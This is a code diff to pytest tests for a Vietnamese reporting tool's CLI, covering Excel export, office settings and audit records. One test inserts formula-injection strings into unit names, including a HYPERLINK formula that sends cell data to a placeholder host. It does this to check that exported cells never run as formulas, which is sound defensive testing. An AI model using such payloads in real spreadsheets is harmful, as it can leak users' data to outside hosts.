@@ -231,27 +231,25 @@ def test_workbook_formats_print_setup_and_colours(exported: dict[str, Path]) -> 
     assert chi_tieu.cell(5, 4).number_format == "#,##0"
 
 
-def test_workbook_khen_thuong_may_be_empty_with_a_note(demo_db: Path, tmp_path: Path) -> None:
+def test_workbook_khen_thuong_may_be_empty_with_a_note(demo_target: str, tmp_path: Path) -> None:
     path = tmp_path / "x.xlsx"
-    assert run("--db", demo_db, "export", "--period", "2022", "--xlsx", path)[0] == 0
+    assert run("--db", demo_target, "export", "--period", "2022", "--xlsx", path)[0] == 0
     ws = openpyxl.load_workbook(path)["KhenThuong"]
     values = [c for r in ws.iter_rows(values_only=True) for c in r if c]
     assert any(str(v).startswith("Không có đề nghị khen thưởng") for v in values)
 
 
-def test_no_cell_runs_as_a_formula(demo_db: Path, tmp_path: Path) -> None:
+def test_no_cell_runs_as_a_formula(demo_target: str, tmp_path: Path) -> None:
     evil = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'
-    with Database.open(demo_db, backup=False) as d, d.transaction("Đổi tên (kiểm thử)") as s:
+    with Database.open(demo_target, backup=False) as d, d.transaction("Đổi tên (kiểm thử)") as s:
         s.execute(update(UnitRow).where(UnitRow.code == "22831").values(name=evil))
         s.execute(update(UnitRow).where(UnitRow.code == "22810").values(name="+1-2"))
         s.execute(update(UnitRow).where(UnitRow.code == "22813").values(name="@SUM(1)"))
         s.execute(update(OfficeRow).values(name="-Phòng thử"))
     path = tmp_path / "x.xlsx"
     package = tmp_path / "x.zip"
-    assert (
-        run("--db", demo_db, "export", "--period", "2023", "--xlsx", path, "--package", package)[0]
-        == 0
-    )
+    argv = ["export", "--period", "2023", "--xlsx", path, "--package", package]
+    assert run("--db", demo_target, *argv)[0] == 0
     with zipfile.ZipFile(path) as z:
         for n in z.namelist():
             if n.startswith("xl/worksheets/"):
@@ -627,15 +625,15 @@ def test_refuses_a_package_of_another_plan(exported: dict[str, Path], tmp_path: 
 # ---------------------------------------------------------------------------- office
 
 
-def test_office_settings_show_and_change(demo_db: Path) -> None:
-    code, out, _ = run("--db", demo_db, "office", "--format", "json")
+def test_office_settings_show_and_change(demo_target: str) -> None:
+    code, out, _ = run("--db", demo_target, "office", "--format", "json")
     assert code == 0
     office = json.loads(out)
     assert office["parent_body"] == "UBND huyện Ninh Sơn"
     assert office["signer_name"] == "Nguyễn Thị Hương"
     code, out, err = run(
         "--db",
-        demo_db,
+        demo_target,
         "office",
         "--set",
         "signer_name=Lê Văn Tâm",
@@ -644,18 +642,18 @@ def test_office_settings_show_and_change(demo_db: Path) -> None:
     )
     assert code == 0, err
     assert "signer_name: Nguyễn Thị Hương → Lê Văn Tâm" in out
-    office = json.loads(run("--db", demo_db, "office", "--format", "json")[1])
+    office = json.loads(run("--db", demo_target, "office", "--format", "json")[1])
     assert office["signer_name"] == "Lê Văn Tâm"
     assert office["recipients"] == ["Sở KH&CN (b/c)", "UBND huyện (b/c)", "Lưu: VT, VHTT"]
-    with Database.open(demo_db, write=False) as d, d.reading() as s:
+    with Database.open(demo_target, write=False) as d, d.reading() as s:
         audit = s.scalars(
             select(AuditRow).where(AuditRow.table_name == "office", AuditRow.field == "signer_name")
         ).all()
     assert audit and audit[-1].new_value == "Lê Văn Tâm"
     assert audit[-1].summary == "Thay đổi thông tin cơ quan báo cáo"
-    code, _out, err = run("--db", demo_db, "office", "--set", "colour=red")
+    code, _out, err = run("--db", demo_target, "office", "--set", "colour=red")
     assert code == 1 and "Không có thiết lập 'colour'" in err
-    code, _out, err = run("--db", demo_db, "office", "--set", "place")
+    code, _out, err = run("--db", demo_target, "office", "--set", "place")
     assert code == 1 and "KHÓA=GIÁ_TRỊ" in err
 
 
